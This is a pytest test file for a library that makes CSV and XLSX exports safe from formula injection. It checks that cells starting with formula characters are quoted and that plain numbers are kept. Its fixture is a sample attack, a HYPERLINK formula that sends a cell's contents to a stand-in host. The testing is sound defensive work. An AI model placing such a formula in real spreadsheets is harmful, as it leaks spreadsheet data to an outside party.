"""CSV injection: exports for spreadsheets never hand a spreadsheet a formula to run."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from formats.csvsafe import (
    FORMULA_STARTS,
    SpreadsheetSafeWriter,
    spreadsheet_safe,
    spreadsheet_safe_cells,
)
from formats.datadictionary import read_data_dictionary
from formats.datadictionary.tests.builders import dictionary_csv, row
from formats.exports import (
    CheckboxLayout,
    ExportOptions,
    ExportPlan,
    ExportRecord,
    write_csv,
    write_xlsx,
)

ATTACK = '=HYPERLINK("http://example.invalid/?x="&A2,"Click")'

DICTIONARY = read_data_dictionary(
    dictionary_csv(
        row("record_id", label="Record ID", form="baseline"),
        row("note", "notes", form="baseline", label="Note"),
        row("change", form="baseline", validation="number", label="Change"),
        row("grade", "radio", form="baseline", choices="1, =1+1 | -1, @Worse", label="=Grade"),
        row("seen", "checkbox", form="baseline", choices="1, +Lung | 2, Liver", label="Seen"),
    )
).dictionary


def _records(note: str) -> list[ExportRecord]:
    values: dict[str, str | set[str]] = {
        "note": note,
        "change": "-1.5",
        "grade": "-1",
        "seen": {"1"},
    }
    return [ExportRecord("LDS-1", "lds", values=values, statuses={"baseline": 2})]


def _csv(note: str, **options: object) -> tuple[list[dict[str, str]], list[dict[str, str]]]:
    plan = ExportPlan(DICTIONARY, ExportOptions(**options))  # type: ignore[arg-type]
    out, ticks = io.StringIO(newline=""), io.StringIO(newline="")
    write_csv(plan, _records(note), out, checkboxes_out=ticks)
    return (
        list(csv.DictReader(io.StringIO(out.getvalue(), newline=""))),
        list(csv.DictReader(io.StringIO(ticks.getvalue(), newline=""))),
    )


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (ATTACK, "'" + ATTACK),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-ve on repeat", "'-ve on repeat"),
        ("@SUM(A1:A3)", "'@SUM(A1:A3)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1+2", "'-1+2"),
        ("-", "'-"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("-.5", "-.5"),
        ("-12", "-12"),
        ("Normal = 1", "Normal = 1"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_a_cell_that_could_run_as_a_formula_is_quoted_and_numbers_are_left_alone(cell, written):
    assert spreadsheet_safe(cell) == written


@given(st.text(max_size=30))
def test_no_safe_cell_starts_a_formula_unless_it_is_a_plain_number(cell):
    safe = spreadsheet_safe(cell)
    assert safe in (cell, "'" + cell)
    if safe[:1] in FORMULA_STARTS:
        float(safe)  # only a plain number may keep its sign


@given(st.lists(st.text(alphabet="=+-@\t\r\x00a1.", max_size=4), max_size=6))
def test_a_row_is_made_safe_exactly_as_its_cells_one_by_one(cells):
    assert spreadsheet_safe_cells(list(cells)) == [spreadsheet_safe(cell) for cell in cells]


def test_a_csv_export_quotes_free_text_that_would_run_as_a_formula():
    rows, _ = _csv(ATTACK)
    assert rows[0]["note"] == "'" + ATTACK
    assert rows[0]["change"] == "-1.5"  # a negative number stays a number
    assert rows[0]["grade"] == "-1"  # a negative code too


def test_labels_and_the_checkbox_table_are_quoted_as_well():
    rows, ticks = _csv("fine", labels=True, checkboxes=CheckboxLayout.LONG)
    assert rows[0]["grade"] == "'@Worse"
    assert ticks == [{"record_id": "LDS-1", "field": "seen", "code": "1", "label": "'+Lung"}]


def test_the_raw_option_writes_text_exactly_as_entered_for_statistical_software():
    rows, ticks = _csv(ATTACK, spreadsheet_safe=False, labels=True, checkboxes=CheckboxLayout.LONG)
    assert rows[0]["note"] == ATTACK
    assert rows[0]["grade"] == "@Worse"
    assert ticks[0]["label"] == "+Lung"


def test_the_safe_writer_quotes_every_text_cell_of_a_row():
    out = io.StringIO(newline="")
    SpreadsheetSafeWriter(csv.writer(out, lineterminator="\n")).writerows(
        [["=cmd", -1.5, None, "-2.5"], ["ok"]]
    )
    assert out.getvalue() == "'=cmd,-1.5,,-2.5\nok\n"


def test_xlsx_writes_every_text_that_starts_with_an_equals_sign_as_text():
    plan = ExportPlan(DICTIONARY, ExportOptions(labels=True, checkboxes=CheckboxLayout.WIDE))
    out = io.BytesIO()
    records = [
        ExportRecord(
            "LDS-1", "lds", values={"note": ATTACK, "grade": "1"}, statuses={"baseline": 2}
        )
    ]
    write_xlsx(plan, records, out)
    book = load_workbook(io.BytesIO(out.getvalue()))
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book
        for line in sheet.iter_rows()
        for cell in line
        if cell.data_type == "f"
    ]
    assert formulas == []
    texts = {cell.value for sheet in book for line in sheet.iter_rows() for cell in line}
    assert {ATTACK, "=1+1", "=Grade"} <= texts  # the note, a choice label, a variable label
